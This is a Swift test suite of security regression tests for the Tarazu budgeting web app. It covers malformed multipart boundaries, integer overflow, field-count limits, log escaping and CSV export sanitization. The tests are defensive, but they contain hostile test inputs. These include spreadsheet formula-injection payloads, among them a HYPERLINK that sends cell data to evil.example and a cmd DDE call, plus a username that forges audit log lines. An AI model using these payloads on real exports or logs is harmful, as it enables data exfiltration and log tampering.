import Foundation
import TarazuParticipation
import TarazuStore
import Testing
import Vapor
import VaporTesting
@testable import TarazuWeb

/// Regressions of the security and reliability review (issue 11), in process.
@Suite struct HardeningTests {
    @Test func multipartWithoutAValidBoundaryIsA400() async throws {
        // Review C1: MultipartKit stopped the process on an empty boundary, reached from the CSRF check.
        try await WebHarness.withApp { app, _ in
            for path in ["/login", "/manage/upload", "/pb/x/vote/phone", "/no/such/path"] {
                for type in ["multipart/form-data; boundary=", "multipart/form-data; boundary=\"\"", "multipart/form-data; boundary= ",
                             "multipart/form-data", "multipart/form-data; boundary=" + String(repeating: "b", count: 71)] {
                    var headers = HTTPHeaders()
                    headers.replaceOrAdd(name: .contentType, value: type)
                    let response = try await app.testing().sendRequest(.POST, path, headers: headers, body: ByteBuffer(string: "x=1"))
                    #expect(response.status == .badRequest, "\(path) \(type)")
                }
            }
            #expect(try await WebHarness.get(app, "/healthz").status == .ok)
        }
        #expect(RequestGuardMiddleware.isValidBoundary("----WebKitFormBoundary7MA4YWxkTrZu0gW"))
        #expect(RequestGuardMiddleware.isValidBoundary("a b'()+_,-./:=?"))
        #expect(!RequestGuardMiddleware.isValidBoundary(""))
        #expect(!RequestGuardMiddleware.isValidBoundary("ends with space "))
        #expect(!RequestGuardMiddleware.isValidBoundary("é"))
    }

    @Test(arguments: WebStorage.allCases)
    func healthzAnswersAndIsNeverCached(_ storage: WebStorage) async throws {
        try await WebHarness.withApp(storage: storage) { app, _ in
            let response = try await WebHarness.get(app, "/healthz")
            #expect(response.status == .ok && response.text == "{\"status\": \"ok\"}\n")
            #expect(response.headers.first(name: .cacheControl) == "no-store")
        }
    }

    @Test func auditPageFarPastTheEndShowsTheLastPage() async throws {
        // Review M1: (page - 1) * 50 overflowed for page = Int.max.
        try await WebHarness.withApp { app, stores in
            let admin = try await AuthHarness.signedIn(stores.accounts, "root", role: .admin)
            for page in ["9223372036854775807", "-9223372036854775808", "0"] {
                let response = try await WebHarness.get(app, "/admin/audit?page=\(page)&lang=en", headers: admin.headers)
                #expect(response.status == .ok, "\(page)")
            }
            #expect(try await WebHarness.get(app, "/admin/audit?page=99999999999999999999", headers: admin.headers).status == .badRequest)
        }
    }

    @Test func yearsOutsideTheCalendarAreA400() async throws {
        try await WebHarness.withApp { app, _ in
            let name = WebHarness.smallBook.metadata.name
            for path in ["/api/v1/books/\(name)/indicators?year=9223372036854775807", "/books/\(name)?year=-9223372036854775808",
                         "/api/v1/books/\(name)/assessment?year=0", "/books/\(name)/report?year=10000"] {
                let status = try await WebHarness.get(app, path).status
                #expect(status == .badRequest, "\(path)")
            }
        }
    }

    @Test func formsWithTooManyFieldsAreRefusedBeforeTheyAreParsed() async throws {
        // Red team: the form parsers take time that grows with the square of repeated fields, and the
        // CSRF check parsed every POST's body.
        #expect(CSRFMiddleware.fieldCount(ByteBuffer(string: "a=1&b=2&c"), contentType: .urlEncodedForm) == 3)
        let multipart = "--xx\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--xx\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\n2\r\n--xx--\r\n"
        #expect(CSRFMiddleware.fieldCount(ByteBuffer(string: multipart), contentType: HTTPMediaType(type: "multipart", subType: "form-data", parameters: ["boundary": "xx"])) == 3)
        try await WebHarness.withApp { app, stores in
            let token = try await AuthHarness.loginToken(app)
            let fields = [("csrf_token", token)] + Array(repeating: ("a", "1"), count: 600)
            let refused = try await AuthHarness.post(app, "/login?lang=en", cookie: "tarazu_csrf=\(token)", fields: fields)
            #expect(refused.status == .badRequest && refused.text.contains("more than 500 fields"))
            // An upload is only read for a signed-in analyst: others are refused before the body is collected.
            var headers = HTTPHeaders()
            headers.replaceOrAdd(name: .contentType, value: "multipart/form-data; boundary=xx")
            headers.replaceOrAdd(name: .cookie, value: "tarazu_csrf=\(token)")
            let anonymous = try await app.testing().sendRequest(.POST, "/manage/upload", headers: headers, body: ByteBuffer(string: multipart))
            #expect(anonymous.status == .forbidden)
            let council = try await AuthHarness.signedIn(stores.accounts, "reza", role: .council)
            headers.replaceOrAdd(name: .cookie, value: council.cookie)
            let tooLow = try await app.testing().sendRequest(.POST, "/manage/upload?lang=en", headers: headers, body: ByteBuffer(string: multipart))
            #expect(tooLow.status == .forbidden && tooLow.text.contains("analyst"))
        }
    }

    @Test func anEmptyOrderTermIsA400() async throws {
        // `order=:` split into nothing and was indexed: the process stopped.
        try await WebHarness.withApp { app, _ in
            for order in [":", "|:|", ":desc", " : "] {
                let query = order.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                let status = try await WebHarness.get(app, "/api/v1/aggregate?measure=approved&drilldown=year&order=\(query)").status
                #expect(status == .badRequest, "\(order)")
            }
        }
    }

    @Test func uploadsWaitingForConfirmationAreBounded() async throws {
        // Review L3: every upload stayed in memory for an hour, without a cap per session.
        let staging = UploadStaging(lifetime: 3600, capacity: 2)
        let book = WebHarness.smallBook
        let first = try #require(await staging.stage(book, fileName: "a.zip", sessionHash: "s1"))
        let second = try #require(await staging.stage(book, fileName: "b.zip", sessionHash: "s1"))
        #expect(await staging.count() == 1)
        #expect(await staging.take(first, sessionHash: "s1") == nil)
        #expect(await staging.stage(book, fileName: "c.zip", sessionHash: "s2") != nil)
        #expect(await staging.stage(book, fileName: "d.zip", sessionHash: "s3") == nil)
        #expect(await staging.take(second, sessionHash: "s1")?.fileName == "b.zip")
        #expect(await staging.stage(book, fileName: "d.zip", sessionHash: "s3") != nil)
        #expect(await staging.stage(book, fileName: "e.zip", sessionHash: "s4", now: Date().addingTimeInterval(7200)) != nil)
    }

    @Test func aTypedUsernameReachesTheAuditLogEscaped() async throws {
        // Review L6: "\r\n" and terminal escapes were stored as typed, and `tarazu audit` printed forged lines.
        try await WebHarness.withApp { app, stores in
            let forged = "evil\r\n2026-01-01T00:00:00Z\troot\tlogin.success\u{1B}[2J\u{202E}"
            #expect(try await AuthHarness.logIn(app, forged).status == .unauthorized)
            let entry = try #require(try await stores.audit.auditLog(limit: 1).first)
            #expect(entry.action == "login.failure")
            #expect(entry.target == "evil\\u{D}\\u{A}2026-01-01T00:00:00Z\\u{9}root\\u{9}login.success\\u{1B}[2J\\u{202E}")
            #expect(!entry.target.unicodeScalars.contains { $0.properties.generalCategory == .control })
        }
    }

    @Test func exportsNeutralizeFormulasAndKeepNumbers() async throws {
        // Review M5: CSV exports carried =HYPERLINK(...), =cmd|..., @SUM(1) and +SUM(1+1) as they were.
        var book = WebHarness.smallBook
        let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "@SUM(1)", "+SUM(1+1)"]
        let function = book.budgetLines[0].function
        for index in book.budgetLines.indices where book.budgetLines[index].function == function {
            book.budgetLines[index].program = formulas[index % formulas.count]
            book.budgetLines[index].department = formulas[(index + 1) % formulas.count]
        }
        try await WebHarness.withApp(books: [book]) { app, stores in
            let name = book.metadata.name
            let open = try await WebHarness.get(app, "/books/\(name)/data/budget_lines.csv")
            #expect(open.status == .ok)
            for formula in formulas { #expect(open.text.contains("'" + formula.prefix(6)), "\(formula)") }
            for line in open.text.split(separator: "\n").dropFirst() {
                for field in line.split(separator: ",") {
                    #expect(!["=", "+", "@"].contains(field.first.map(String.init) ?? ""), "\(line)")
                }
            }
            #expect(open.text.contains("," + String(book.budgetLines[0].approved.rials) + ","))
            let council = try await AuthHarness.signedIn(stores.accounts, "reza", role: .council)
            let programs = try await WebHarness.get(app, "/dashboard/\(name)/functions/\(function)?format=csv&table=programs",
                                                    headers: council.headers)
            #expect(programs.status == .ok)
            #expect(programs.text.contains("'=HYPERLINK") || programs.text.contains("\"'=HYPERLINK"))
            #expect(!programs.text.split(separator: "\n").contains { $0.hasPrefix("=") || $0.contains(",=") || $0.contains(",@") })
        }
    }

    @Test func publicResultsAreTalliedOnceUntilABallotArrives() async throws {
        // Review M4: every request re-ran the tally over every ballot.
        let cache = PBResultsCache()
        let runs = Counter()
        let compute: @Sendable () async throws -> PBResultsCache.Tally = {
            await runs.increment()
            try await Task.sleep(for: .milliseconds(50))
            return PBResultsCache.Tally(results: [], ballots: 7)
        }
        try await withThrowingTaskGroup(of: Int.self) { group in
            for _ in 0..<10 { group.addTask { try await cache.tally("p|mes", stamp: "1:7", compute: compute).ballots } }
            for try await ballots in group { #expect(ballots == 7) }
        }
        #expect(await runs.value == 1)
        _ = try await cache.tally("p|mes", stamp: "1:8", compute: compute)
        #expect(await runs.value == 2)
        _ = try await cache.tally("p|mes", stamp: "1:8", now: Date().addingTimeInterval(120), compute: compute)
        #expect(await runs.value == 3)
    }
}

actor Counter {
    private(set) var value = 0
    func increment() { value += 1 }
}
